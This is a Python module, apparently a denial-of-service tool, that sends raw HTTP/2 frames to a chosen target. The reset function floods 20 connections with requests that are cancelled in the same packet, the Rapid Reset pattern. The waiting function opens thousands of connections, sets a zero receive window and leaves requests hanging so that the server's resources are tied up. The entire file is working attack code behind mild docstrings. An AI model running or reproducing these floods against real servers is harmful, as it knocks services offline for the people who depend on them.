"""Calls by the packet: what no client of HTTP/2 would send."""

from __future__ import annotations

import asyncio
import itertools
from collections import Counter
from contextlib import suppress

from hpack import Encoder
from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame

# Connections with calls that are taken back at once.
RESET_CONNECTIONS = 20
RESET_AT_ONCE = 16
RESET_PAUSE_SECONDS = 0.002
RESET_SECONDS = 8
# Calls that wait for their turn, on more connections than all others have.
WAITING_CONNECTIONS = 4_000
WAITING_OPENED_AT_ONCE = 100
WAITING_STREAMS = 16
WAITING_SECONDS = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NOWHERE = ((":method", "GET"), (":scheme", "http"), (":path", "/nowhere"), (":authority", "a"))


async def reset(target: str) -> Counter[str]:
    """Calls that are taken back in the packet that they come in, on a few connections at once."""
    answers: Counter[str] = Counter()

    async def one() -> None:
        while True:
            with suppress(OSError):
                _, writer = await _connected(target)
                try:
                    for begin in itertools.count(1, 2 * RESET_AT_ONCE):
                        streams = range(begin, begin + 2 * RESET_AT_ONCE, 2)
                        writer.write(b"".join(_taken_back(stream) for stream in streams))
                        await writer.drain()
                        answers["sent"] += RESET_AT_ONCE
                        await asyncio.sleep(RESET_PAUSE_SECONDS)
                finally:
                    answers["connections"] += 1
                    writer.close()

    async def connections() -> None:
        await asyncio.gather(*(one() for _ in range(RESET_CONNECTIONS)))

    with suppress(TimeoutError):
        await asyncio.wait_for(connections(), RESET_SECONDS)
    return answers


async def waiting(target: str) -> Counter[str]:
    """As many calls at once on as many connections, whose answers are not taken; said once."""
    answers: Counter[str] = Counter()
    nothing_taken = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
    calls = b"".join(_get_nowhere(stream) for stream in range(1, 2 * WAITING_STREAMS, 2))
    held = []

    async def one() -> None:
        try:
            reader, writer = await _connected(target)
        except OSError:
            answers["turned away"] += 1
            return
        held.append((reader, writer))
        with suppress(OSError):
            writer.write(nothing_taken + calls)
            await writer.drain()
        answers["connections"] += 1

    for _ in range(WAITING_CONNECTIONS // WAITING_OPENED_AT_ONCE):
        await asyncio.gather(*(one() for _ in range(WAITING_OPENED_AT_ONCE)))
    await asyncio.sleep(WAITING_SECONDS)
    for _, writer in held:
        writer.close()
    return answers


async def _connected(target: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection that speaks HTTP/2, as far as this side is concerned."""
    host, _, port = target.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(PREFACE + SettingsFrame(0).serialize())
    return reader, writer


def _get_nowhere(stream: int) -> bytes:
    # Names and values that every connection knows; the path is spelled out.
    head = Encoder().encode(NOWHERE)
    flags = ["END_HEADERS", "END_STREAM"]
    return bytes(HeadersFrame(stream, data=head, flags=flags).serialize())


def _taken_back(stream: int) -> bytes:
    return _get_nowhere(stream) + bytes(RstStreamFrame(stream, error_code=8).serialize())
